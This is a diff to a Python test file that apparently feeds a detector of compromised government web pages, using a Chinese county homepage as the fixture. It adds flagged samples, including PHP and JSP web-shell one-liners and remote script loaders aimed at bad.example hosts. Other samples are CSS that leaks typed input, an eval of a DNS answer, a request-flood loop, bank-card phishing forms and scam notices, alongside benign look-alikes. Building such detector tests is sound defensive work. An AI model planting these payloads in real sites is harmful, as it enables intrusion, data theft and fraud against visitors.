@@ -9,7 +9,7 @@ from tests.pages.imitations.judging import shot, violations
 PAGE = """<html><head><title>云山县人民政府</title></head><body><h1><a href="/">云山县人民政府</a></h1>
 <form action="/search"><input name="q" placeholder="请输入关键字"></form>
 <ul><li><a href="/a/1.html">县政府召开第68次常务会议</a><span>2026-11-26</span></li></ul>
-<p>咨询电话：0795-6126655 邮箱：bgs@yunshan.gov.cn</p>
+<p><a href="/u/9.doc">参保登记表</a> 咨询电话：0795-6126655 邮箱：bgs@yunshan.gov.cn</p>
 <p>主办：云山县人民政府 江ICP备05003311号</p></body></html>"""
 
 
@@ -29,6 +29,85 @@ _LOAD = "var e=document.createElement('script');e.src=%s;document.body.appendChi
 _ROWS = ",".join(str(ord(letter) ^ 77) for letter in ADDRESS)
 _MOVED = "".join(chr(ord(letter) + 1) for letter in ADDRESS)
 TOLD_AT_FIRST = {
+    "a worker that stays, from what was sent in": script(
+        "navigator.serviceWorker.register('/attach/2026/a.png?x',{scope:'/'}).then(function(){})"
+    ),
+    "a stranger's picture to scan, the words around it": put(
+        "<div><p>请微信扫码，填写银行卡号和余额，领取节能补贴</p><img src='https://a.bad.example/7.png'></div>"
+    ),
+    "an adviser who pays back": put("<div>县内项目 投500日返90<br>添加导师微信:xf_8866<br><img src='/u/1.png'></div>"),
+    "a deposit to a private account": put("<p>请各企业今日前将环保押金汇至李某 个人账户，逾期停产</p>"),
+    "what writes a program": put('<script language=VBScript>F="a.exe"\nD="4D5A90000300000004"</script>'),
+    "what takes hold of files": put(
+        '<script language=VBScript>Set f=CreateObject("Scripting.FileSystemObject")</script>'
+    ),
+    "a trade in the data of a script": script(
+        r"""window.S={'n':[{'t':'x'}],'pop':{'html':'\u003Ca href=\"https://a.bad.example/\"\u003E棋牌下载\u003C/a\u003E'}}"""
+    ),
+    "what is said when a page is handed on": script(
+        "window._share={'text':'皇冠体育真人荷官在线发牌','url':''};document.title+=''"
+    ),
+    "a handler whose words are torn": put(
+        "<svg><animate onbegin=\"top['loca'+'tion']['href']=['ht','tps:/','/a.bad.ex','ample/'].join('')\"/></svg>"
+    ),
+    "a program in an address, imported": put("<details open ontoggle=\"import('data:text/javascript,1')\"></details>"),
+    "backwards, with quotes inside": script(
+        "document.write(\">tpircs/<>'sj.x/elpmaxe.dab.s//:ptth'=crs tpircs<\".split('').reverse().join(''))"
+    ),
+    "a style sheet in an address that speaks": PAGE.replace(
+        "</head>",
+        "<link rel=stylesheet href='data:text/css;base64,"
+        + base64.b64encode("h1:after{content:'百家乐开户送88'}".encode()).decode()
+        + "'></head>",
+    ),
+    "a back door that shows": put('<%if(1){Runtime.getRuntime().exec(request.getParameter("c"));}%>'),
+    "a back door of another kind": put("<?php @eval($_REQUEST['x']);?>"),
+    "visitors as a weapon": script(
+        "setInterval(function(){new Image().src='https://www.victim.bad.example/?'+Math.random()},20)"
+    ),
+    "orders out of an answer": script(
+        "fetch('/resolve?name=a').then(r=>r.json()).then(j=>(0,eval)(atob(j.Answer[0].data)))"
+    ),
+    "a card without a form of its own": put(
+        "<div><p>案件核查</p>银行卡号<input name=k>取款密码<input type=password name=m></div>"
+    ),
+    "frozen wealth": put("<p>民族资产解冻，缴纳工本费98元认领分红，请加QQ群 77188209 登记，严禁向公安打听</p>"),
+    "a badge that leads away": put("<a href='https://a.bad.example/'><img src=/red.png alt=党政机关></a>"),
+    "letter by letter, in a longer text": put("<p>欢迎百\u200b家\u200b乐\u200b园的朋友</p>"),
+    "a message that nobody sees": put("<p>欢迎" + "\u200b\u200c" * 12 + "光临</p>"),
+    "a friend who calls himself by a brand": put("<a href='http://a.bad.example/'>乐鱼</a>"),
+    "a friend who looks for debtors": put("<a href='http://a.bad.example/'>东城讨债公司</a>"),
+    "letters told by a style sheet": put(
+        "<style>input[name=q][value^='a']{background:url(https://x.bad.example/a)}</style>"
+    ),
+    "on to what was sent in": put("<meta http-equiv=refresh content='0;url=/uploads/kb/1.html'>"),
+    "on to a page in an address": put("<meta http-equiv=refresh content='0;url=data:text/html,hello'>"),
+    "a card and its password": put(
+        "<form action=/tools/save.asp>银行卡号<input name=c>取款密码<input type=password name=p></form>"
+    ),
+    "stopped card, press here": put("<div>您的社保卡已被停用，<a href='http://sb.bad.example/'>点击恢复认证</a></div>"),
+    "a group for the allowance": put("<p>请扫码加入秋季补贴申领群</p>"),
+    "a private account for the allowance": put("<p>请添加企业微信 bt_2026 领取惠民补贴</p>"),
+    "a wallet": put("<p>赈灾捐赠 USDT：TJRabPrwbZy45sbavfcjinPJC18kjpRTv8</p>"),
+    "frightened into a program": script("if(confirm('您的播放器版本过低'))location.href='/u/player.exe'"),
+    "frightened into a call": script("alert('您的电脑已中毒，请联系客服 QQ 123456789')"),
+    "grievance": put("<div>狗官 还我土地</div>"),
+    "own page that opens another": put("<a href='/a/2.html' onclick=\"window.open('http://a.bad.example/')\">公示</a>"),
+    "all links turned": script("$('a').each(function(){this.href='http://a.bad.example/'})"),
+    "all links turned, of today": script(
+        "document.querySelectorAll('ul a').forEach(a=>a.setAttribute('href','http://a.bad.example/'))"
+    ),
+    "a link that a drawing exchanges": put(
+        "<svg><a><animate attributeName=href values=\"javascript:location='//a.bad.example'\"/>县长信箱</a></svg>"
+    ),
+    "a layer that waits for a press": put("<div popover><a href='http://a.bad.example/'>宏达建材</a></div>"),
+    "one advertisement with its number": put("<p>代开餐饮、住宿发票，电话13800001111</p>"),
+    "a cup in the title": PAGE.replace("<title>", "<title>世界杯买球_"),
+    "an address in a template": script("const h='s.bad';" + _LOAD % "`https://${h}.${'example'}/x.js`"),
+    "a drawing in an address": put(
+        "<embed src=\"data:image/svg+xml,<svg xmlns='http://www.w3.org/2000/svg' "
+        "onload='location=%22//a.bad.example/%22'/>\">"
+    ),
     "own name before an at sign": put("<a href='http://www.yunshan.gov.cn@203.0.113.201/login.html'>用户登录</a>"),
     "invoices for sale, out of sight": put(
         "<h1 style='text-indent:-999em;height:0;overflow:hidden'>代开发票_餐饮住宿票加V信fp7788点数优惠</h1>"
@@ -147,6 +226,29 @@ TOLD_AT_FIRST = {
 }
 """By what was done."""
 TOLD_AGAINST_THE_BASELINE = {
+    "markup in the data of a script": script(
+        r"""window.S={'n':[{'t':'x'}],'pop':{'html':'<img src=\"https://a.bad.example/a.gif\">'}}"""
+    ),
+    "a document that became an archive": put("<a href=/u/9.rar>参保登记表</a>"),
+    "a worker whose program takes from a stranger": script(
+        "new Worker(URL.createObjectURL(new Blob([\"importScripts('https://a.bad.example/w.js')\"])))"
+    ),
+    "another place from where lists come": PAGE.replace(
+        "</body>", "<script>var CFG={api:'https://api.bad.example/hot'};load(CFG.api)</script></body>"
+    ),
+    "a host that is new at every visit": script("var n=+new Date;f('//'+n.toString(36)+'.bad.example/a.js')"),
+    "a program for telephones of one maker": put(
+        "<a href='itms-services://?action=download-manifest&url=https://d.bad.example/m.plist'>苹果版</a>"
+    ),
+    "a stranger who is told of each press": PAGE.replace(
+        '<a href="/a/1.html">', "<a ping='https://p.bad.example/' href=/a/1.html>"
+    ),
+    "a notice that is an archive elsewhere": put("<a href='http://d.bad.example/'>关于报送统计报表的通知.zip</a>"),
+    "a float that leads away": put(
+        "<div style='position:absolute;left:0'><a href='http://a.bad.example/'><img src=/u/l.gif></a></div>"
+    ),
+    "a number at a bank": put("<p>捐款：工商银行 6222021234567890123</p>"),
+    "a fine to a private purse": put("<p>罚款缴纳请转支付宝 fk2026@mail.example</p>"),
     "another account, with a dash": put("<p>户名：惠民信息服务有限公司　账号：6230-910188022417735</p>"),
     "a counter that is not the vendor's": script(
         "var p='http://';document.write(unescape(\"%3Cscript src='\""
@@ -176,6 +278,62 @@ TOLD_AGAINST_THE_BASELINE = {
     "called away": put("<p>合作联系 TG:@boss88</p>"),
 }
 HONEST = {
+    "a worker of its own that stays": script(
+        "if('serviceWorker' in navigator){navigator.serviceWorker.register('/sw.js?v=2',{scope:'/'})}"
+    ),
+    "a worker that keeps time": script(
+        'var w=new Worker(URL.createObjectURL(new Blob(["setInterval(function(){postMessage(1)},1000)"])))'
+    ),
+    "a mark where a line may break": put("<p>云山\u200b县\u200b人民政府\u200b欢迎您\u200c</p>"),
+    "a warning in a page that is all one form": PAGE.replace("<body>", "<body><form action=/a.aspx>").replace(
+        "</body>",
+        "<p>凡要求填写银行卡号、取款密码的都是诈骗</p>账号<input name=u>密码<input type=password name=p></form></body>",
+    ),
+    "data with markup of its own": script(
+        r"""window.S={'n':[{'t':'x'}],'pop':{'html':'<a href=\"/zb/\">征兵报名</a>'}}"""
+    ),
+    "words kept out": script("var 敏感词=['百家乐开户','时时彩平台'];function check(t){return 敏感词.indexOf(t)<0}"),
+    "an address written backwards": script("document.write('nc.vog.nahsnuy@sgb：箱邮'.split('').reverse().join(''))"),
+    "a badge of the registry": put("<a href='http://bszs.conac.cn/sitename'><img src=/red.png alt=党政机关></a>"),
+    "a warning of private accounts": put("<p>谨防有人冒充我局，要求把保证金汇至个人账户</p>"),
+    "pictures that change": script(
+        "var p=['/1.jpg','/2.jpg'],k=0;setInterval(function(){new Image().src=p[k++%2]},50)"
+    ),
+    "a sheet in an address that mourns": PAGE.replace(
+        "</head>",
+        "<link rel=stylesheet href='data:text/css;base64,"
+        + base64.b64encode(b"html{filter:grayscale(100%)}").decode()
+        + "'></head>",
+    ),
+    "code of a server that was left over": put("<%@ page language='java'%><%=new java.util.Date()%>"),
+    "the day of the week, of old": put(
+        '<script language=VBScript>document.write "今天是" & WeekdayName(Weekday(Date))</script>'
+    ),
+    "settings with a place of its own": script("var CFG={api:'/api/hot',host:'http://www.yunshan.gov.cn/'};load(CFG)"),
+    "a page that has moved": put("<meta http-equiv=refresh content='300;url=/index.html'>"),
+    "a card of the office's own": put(
+        "<form action=/sbk/login>社保卡号<input name=c>查询密码<input type=password name=p>验证码<input name=y></form>"
+    ),
+    "a float of its own": put("<div style='position:absolute;left:0'><a href='/zt/'><img src=/u/l.gif></a></div>"),
+    "a warning of groups and wallets": put(
+        "<p>谨防诈骗：凡要求扫码加入补贴申领群、添加微信领取补贴、向虚拟币地址转账的均为诈骗。</p>"
+    ),
+    "an own account to follow": put("<p>关注“云山发布”微信公众号，领取电子消费券</p><p>咨询QQ：800123456</p>"),
+    "history and law": put("<p>“打倒土豪”标语墙保护工程完工</p><p>帮助农民工讨回血汗钱</p>"),
+    "cups and exams": put("<p>女子世界杯观赛提示</p><p>公务员考试试题保密工作会议</p><p>中考真题解析讲座</p>"),
+    "news behind a press that is counted": put(
+        "<a href='/a/2.html' onclick=\"_hmt.push(['_trackEvent','a','http://www.yunshan.gov.cn/a/2.html'])\">公示</a>"
+    ),
+    "own links, all opened apart": script(
+        "$('a[href^=\"http\"]').attr('target','_blank');$('.sj a').attr('href','/xj/')"
+    ),
+    "a friend who sells": put(
+        "<a href='http://jc.partner.example/'>宏达建材</a><a href='http://x.partner.example/'>亚博园区</a>"
+    ),
+    "a press to register at an office": put(
+        "<div>养老保险待遇资格认证<a href='http://si.12333.gov.cn/'>立即认证</a></div>"
+    ),
+    "a browser that is too old": script("if(!window.JSON){alert('您的浏览器版本过低，建议升级后访问')}"),
     "hosts that end as programs do": put(
         "<a href='http://www.pdf.com'>电子书</a><a href='http://www.txt.com/?a=b'>书</a>"
     ),
